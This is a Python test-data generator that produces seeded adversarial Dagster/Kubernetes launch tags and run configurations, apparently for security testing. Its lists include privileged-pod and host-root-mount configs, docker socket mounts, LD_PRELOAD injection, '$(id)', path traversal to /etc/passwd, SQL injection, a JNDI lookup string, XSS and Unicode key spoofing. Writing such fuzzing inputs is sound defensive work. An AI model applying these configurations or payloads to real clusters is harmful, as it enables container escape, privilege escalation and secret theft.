"""Tags and run configurations that somebody writes who wants more than a job declares.

Each set is drawn from a generator that is seeded with its number alone: any set can be made again by itself, on any
machine, in microseconds. (A hypothesis strategy costs milliseconds a set, and draws otherwise in another version.)
"""

import json
import random
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

CONFIG, RESOURCES = "dagster-k8s/config", "dagster-k8s/resource_requirements"

# What a container or a pod may be made to be, by the kind that it is counted as.
PODS: Mapping[str, Sequence[Mapping[str, Any]]] = {
    "privileged": [
        {"container_config": {"security_context": {"privileged": True}}},
        {"container_config": {"securityContext": {"privileged": True, "runAsUser": 0}}},
        {"container_config": {"security_context": {"capabilities": {"add": ["SYS_ADMIN"]}, "privileged": True}}},
    ],
    "host path": [
        {
            "pod_spec_config": {"volumes": [{"name": "root", "host_path": {"path": "/"}}]},
            "container_config": {"volume_mounts": [{"name": "root", "mount_path": "/host"}]},
        },
        {"pod_spec_config": {"volumes": [{"name": "s", "hostPath": {"path": "/var/run/docker.sock"}}]}},
    ],
    "host namespaces": [
        {"pod_spec_config": {"host_network": True}},
        {"pod_spec_config": {"hostPID": True, "host_ipc": True}},
    ],
    "service account": [
        {"pod_spec_config": {"service_account_name": "admin"}},
        {"pod_spec_config": {"serviceAccountName": "default", "automountServiceAccountToken": True}},
    ],
    "image or command": [
        {"container_config": {"image": "evil:latest"}},
        {"container_config": {"image": "evil:latest", "command": ["sh", "-c", "id"], "image_pull_policy": "Always"}},
    ],
    "secrets or variables": [
        {"container_config": {"env_from": [{"secret_ref": {"name": "root-password"}}]}},
        {"container_config": {"env": [{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}]}},
        {"container_config": {"env": [
            {"name": "A", "value_from": {"secret_key_ref": {"name": "root-password", "key": "password"}}}
        ]}},
        {"pod_spec_config": {"volumes": [{"name": "s", "secret": {"secret_name": "root-password"}}]}},
    ],
    "more containers": [
        {"pod_spec_config": {"init_containers": [{"name": "first", "image": "evil"}]}},
        {"pod_spec_config": {"containers": [{"name": "beside", "image": "evil"}]}},
    ],
    "nodes": [
        {"pod_spec_config": {"node_selector": {"kubernetes.io/hostname": "control-plane"}}},
        {"pod_spec_config": {"tolerations": [{"operator": "Exists"}], "node_name": "control-plane"}},
        {"pod_spec_config": {"priority_class_name": "system-node-critical", "scheduler_name": "mine"}},
    ],
    "resources": [
        {"container_config": {"resources": {"limits": {"nvidia.com/gpu": "8", "cpu": "512"}}}},
        {"container_config": {"resources": {"requests": {"memory": "2Ti"}}}, "merge_behavior": "SHALLOW"},
    ],
    "lifetime or copies": [
        {"job_spec_config": {"ttl_seconds_after_finished": 10**9, "active_deadline_seconds": 10**9}},
        {"job_spec_config": {"backoff_limit": 1000, "parallelism": 100, "completions": 100}},
    ],
    "labels or annotations": [
        {"pod_template_spec_metadata": {"labels": {"app": "database"}, "annotations": {"iam": "admin"}}},
        {"job_metadata": {"labels": {"app": "database"}, "annotations": {"a": "b"}, "namespace": "kube-system"}},
    ],
}  # fmt: skip

# The same by the run configuration of Dagster's own executor, for the pods of steps.
STEPS: Mapping[str, Sequence[Mapping[str, Any]]] = {
    "image or command": [{"job_image": "evil:latest"}],
    "service account": [{"service_account_name": "admin"}],
    "secrets or variables": [{"env_secrets": ["root-password"]}, {"env_vars": ["LD_PRELOAD=/tmp/evil.so"]}],
    "namespace": [{"job_namespace": "kube-system"}],
    "host path": [{"volumes": [{"name": "root", "host_path": {"path": "/"}}]}],
    "resources": [{"resources": {"limits": {"nvidia.com/gpu": "8"}}}],
    "labels or annotations": [{"labels": {"app": "database"}}],
    "nodes": [{"scheduler_name": "mine"}],
}

NUMBERS = ("nan", "NaN", "-nan", "inf", "-inf", "Infinity", "1e308", "1e999", "-1", "0", "-0", "0x7fffffff", "1_000_000",
           "\u0669" * 7, "\uff19" * 5, " 99999999 ", "\n9e9\n", "9" * 400, "9" * 5000, "", "never", "null", "{}", "true",
           "1e-320", "5", "60.5", "+100000", "\u00b2", "\u2167", "1,5", "--1", "99999999999")  # fmt: skip
LIMITS = ("dagster/priority", "dagster/max_runtime", "dagster/max_runtime_seconds", "dagster/max_retries",
          ".dagster/run_metrics_polling_interval")  # fmt: skip
TEXTS = ("true", "false", "{}", "[]", "null", "evil", "../../etc/passwd", "$(id)", "'; DROP TABLE runs; --", "\u202e",
         "a" * 5000, "💣", "${jndi:ldap://evil}", "<script>alert(1)</script>", "%s%n", "\\u0000", "0", "ALL_STEPS")  # fmt: skip
# Tags that Dagster, this platform or another launcher reads or writes itself.
OTHERS = (
    "dagster/retry_strategy", "dagster/retry_number", "dagster/retry_on_asset_or_op_failure", "dagster/will_retry",
    "dagster/did_retry", "dagster/auto_retry_run_id", "dagster/failure_reason", "dagster/concurrency_key",
    "dagster/isolation", "dagster/isolated_run", "dagster/image", "dagster/run_key", "dagster/run_group",
    "dagster/parent_run_id", "dagster/root_run_id", "dagster/backfill", "dagster/parent_backfill_id",
    "dagster/root_backfill_id", "dagster/partition", "dagster/partition/color", "dagster/partition_set",
    "dagster/asset_partition_range_start", "dagster/asset_partition_range_end", "dagster/schedule_name",
    "dagster/sensor_name", "dagster/tick", "dagster/step_selection", "dagster/solid_selection",
    "dagster/is_asset_resume_retry", "dagster/code_location", "dagster/git_commit_hash", "dagster/reporting_user",
    "dagster/from_automation_condition", "dagster/auto_materialize", "dagster/external_job_source",
    "dagster/run_metrics", "user", ".dagster/repository", ".dagster/scheduled_execution_time", ".dagster/run_worker",
    ".dagster/pool/gpu", ".dagster/run_metrics", ".dagster/python_runtime_metrics",
    "ml_platform/launcher", "ml_platform/isolated", "ml_platform/waiting_until", "ml-platform/launch",
)  # fmt: skip
LAUNCHERS = {
    ".dagster/grpc_info": {"host": "evil.example", "port": 443, "use_ssl": True},
    "docker/container_id": "0123abcd", "docker/image": "evil", "dagster-docker/config": {"privileged": True},
    "dagster-celery/queue": "others", "dagster-celery/run_priority": "99", "dagster-ray/config": {"num_gpus": 8},
    "dagster-aws/emr": {"a": 1}, "ecs/cpu": "4096", "ecs/memory": "30720", "ecs/task_arn": "arn:evil",
    "ecs/task_overrides": {"taskRoleArn": "arn:admin"}, "ecs/run_task_kwargs": {"launchType": "EC2"},
    "ecs/container_overrides": [{"name": "run", "command": ["id"]}],
}  # fmt: skip
KEYS: Sequence[Callable[[str], str]] = (  # what is nearly a key, and must do nothing either
    str.upper, str.title, lambda key: f" {key}", lambda key: f"{key} ", lambda key: f"{key}\n", lambda key: f"{key}/",
    lambda key: f"/{key}", lambda key: key.replace("/", "//"), lambda key: key.replace("/", "%2F"),
    lambda key: key.replace("/", "\uff0f"), lambda key: key.replace("k8s", "k\uff18s"), lambda key: key.replace("a", "\u0430"),
    lambda key: f"\ufeff{key}", lambda key: key.replace("-", "\u200b-"), lambda key: f"{key}\x00", lambda key: f".{key}",
    lambda key: key + "x" * 3000, lambda key: key.replace("/", "/../dagster-k8s/"), lambda key: f"{key}/config",
)  # fmt: skip
DOORS = ("launchRun", "launchPipelineExecution", "launchPipelineReexecution", "launchRunReexecution",
         "launchPartitionBackfill", "launchMultipleRuns")  # fmt: skip


class Draw(random.Random):
    """A generator that takes note of the kinds of things that were drawn."""

    def __init__(self, number: int):
        super().__init__(number)
        self.kinds: set[str] = set()


@dataclass(frozen=True)
class TagSet:
    """What somebody sends.

    Attributes:
        tags: in order; a key may stand twice.
        door: the mutation that it is sent to.
        kinds: of what it asks for, and of how that is written.
    """

    number: int
    tags: tuple[tuple[str, str], ...]
    run_config: Any
    door: str
    job: str
    kinds: frozenset[str]

    @property
    def as_dagster_reads(self) -> dict[str, str]:
        return dict(self.tags)

    @property
    def asks_for_a_pod(self) -> bool:
        """Whether a tag that Dagster's launcher reads is among them."""
        return CONFIG in self.as_dagster_reads


def tag_set(number: int) -> TagSet:
    """Makes the set of a number."""
    draw = Draw(number)
    tags: list[tuple[str, str]] = []
    for part in draw.sample((_pod, _nearly, _limit, _other, _launcher, _noise), draw.choice((1, 2, 2, 3, 4))):
        draw.kinds.add(part.__name__)
        tags += part(draw)
    run_config = _run_config(draw)
    tags += tags[:1] if draw.random() < 0.05 else []
    door = DOORS[number % 50] if number % 50 < len(DOORS) else DOORS[-1]
    job = {"launchPartitionBackfill": "parted_job", "launchRunReexecution": "plain"}.get(door)
    job = job or ("declared" if draw.random() < 0.25 else "plain")
    return TagSet(number, tuple(tags), run_config, door, job, frozenset({job, *draw.kinds}))


def tag_sets(numbers: Iterable[int]) -> Iterator[TagSet]:
    return map(tag_set, numbers)


def most_telling_first(numbers: Sequence[int], least: int) -> list[int]:
    """Orders sets: those with a kind that no other had, then with one by a door that it had not come by, then again so.

    Args:
        least: how many must be in this order; the rest follow as they are.
    """
    sets, ordered = [tag_set(number) for number in numbers], list[int]()
    seen: Counter[tuple[str, ...]] = Counter()
    for times in range(len(sets)):
        for strata in (_kinds, _kinds_by_door):
            rest = []
            for one in sets:
                is_news = any(seen[each] <= times for each in strata(one))
                ordered += [one.number] if is_news else []
                rest += [] if is_news else [one]
                seen.update([*_kinds(one), *_kinds_by_door(one)] if is_news else [])
            sets = rest
        if len(ordered) >= least:
            break
    return [*ordered, *(one.number for one in sets)]


def _kinds(one: TagSet) -> list[tuple[str, ...]]:
    return [(kind,) for kind in one.kinds] + [(one.door,)]


def _kinds_by_door(one: TagSet) -> list[tuple[str, ...]]:
    return [(one.door, kind) for kind in one.kinds]


def _pod(draw: Draw) -> list[tuple[str, str]]:
    """A pod of any kinds, in a tag that Dagster reads."""
    if draw.random() < 0.15:
        return [(RESOURCES, json.dumps({"limits": {"cpu": "512", "nvidia.com/gpu": "8"}}))]
    wanted: dict[str, Any] = {}
    for kind in draw.sample(sorted(PODS), draw.choice((1, 1, 1, 2, 3, len(PODS)))):
        draw.kinds.add(kind)
        for part, fields in draw.choice(PODS[kind]).items():
            wanted[part] = {**wanted.get(part, {}), **fields} if isinstance(fields, dict) else fields
    return [(CONFIG, _written(draw, wanted))]


def _written(draw: Draw, wanted: Mapping[str, Any]) -> str:
    """JSON as Dagster reads it, mostly; else what breaks whoever reads it."""
    text = json.dumps(wanted)
    ways: Sequence[Callable[[], str]] = (
        lambda: text,
        lambda: f"\n\t {text} \r\n",
        lambda: text.replace("privileged", "\\u0070rivileged").replace("image", "im\\u0061ge"),
        lambda: '{"container_config": {}, ' + text[1:],
        lambda: json.dumps({**wanted, "pod_template_spec_metadata": {"annotations": {"a": "x" * 100_000}}}),
        lambda: text[: len(text) // 2],
        lambda: json.dumps(text),
        lambda: "[" * 2000,
        lambda: f"[{text}]",
        lambda: f"\ufeff{text}",
        lambda: json.dumps({"container_config": {"resources": float("nan")}}),
    )
    way = draw.choices(ways, (60, 5, 5, 5, 1, 4, 4, 1, 4, 4, 4))[0]
    draw.kinds.add(f"written in way {ways.index(way)}")
    return way()


def _nearly(draw: Draw) -> list[tuple[str, str]]:
    """A key that looks like one that Dagster reads."""
    key = draw.choice((CONFIG, RESOURCES, "dagster-k8s/user_defined_k8s_config", *LIMITS, "ecs/task_overrides"))
    return [(draw.choice(KEYS)(key), json.dumps(draw.choice(PODS["privileged"])))]


def _limit(draw: Draw) -> list[tuple[str, str]]:
    keys = draw.sample(LIMITS, draw.randint(1, len(LIMITS)))
    draw.kinds.update(keys)
    return [(key, draw.choice(NUMBERS)) for key in keys]


def _other(draw: Draw) -> list[tuple[str, str]]:
    return [(key, draw.choice((*TEXTS, *NUMBERS))) for key in draw.sample(OTHERS, draw.choice((1, 2, 5)))]


def _launcher(draw: Draw) -> list[tuple[str, str]]:
    return [(key, json.dumps(LAUNCHERS[key])) for key in draw.sample(sorted(LAUNCHERS), draw.choice((1, 2, 4)))]


def _noise(draw: Draw) -> list[tuple[str, str]]:
    """Keys and values of any characters; a key that Dagster's launchers share the beginning of, now and then."""
    letters = [chr(draw.choice((draw.randrange(1, 128), draw.randrange(160, 0xD800)))) for _ in range(40)]
    beginning = draw.choice(("", "", "dagster-k8s/", "dagster/", "ml_platform/"))
    return [(beginning + "".join(letters[:20]), "".join(letters[20:])), (draw.choice(TEXTS), draw.choice(TEXTS))]


def _run_config(draw: Draw) -> Any:
    """A run configuration: none mostly, one for Dagster's own executor, or anything."""
    asked = draw.random()
    if asked < 0.7:
        return {}
    if asked < 0.85:
        kind = draw.choice(sorted(STEPS))
        draw.kinds.add(f"{kind} of steps")
        return {"execution": {"config": dict(draw.choice(STEPS[kind]))}}
    if asked < 0.88:
        return {"execution": {"config": {"step_k8s_config": dict(draw.choice(PODS[draw.choice(sorted(PODS))]))}}}
    evil: Any = draw.choice(PODS["privileged"])
    return draw.choice((
        {"execution": {"k8s": {"config": {"job_image": "evil"}}}}, {"execution": {"config": {"retries": {"nan": {}}}}},
        {"execution": {"config": {"retries": {"disabled": {}}}}}, {"ops": {"work": {"config": {"k8s": evil}}}},
        {"ops": {"work": {"config": {"dagster-k8s/config": evil}}}}, {"ops": {"nobody": {"config": evil}}},
        {"resources": {"io_manager": {"config": {"base_dir": "/"}}}}, {"loggers": {"console": {"config": {}}}},
        {"loggers": {"evil": {"config": {"name": "x" * 10_000}}}}, {"dagster-k8s/config": evil}, [evil], "not: [yaml",
        "execution: {config: {job_image: evil}}", {"execution": {"config": {"kubeconfig_file": "/etc/passwd"}}}, None,
    ))  # fmt: skip
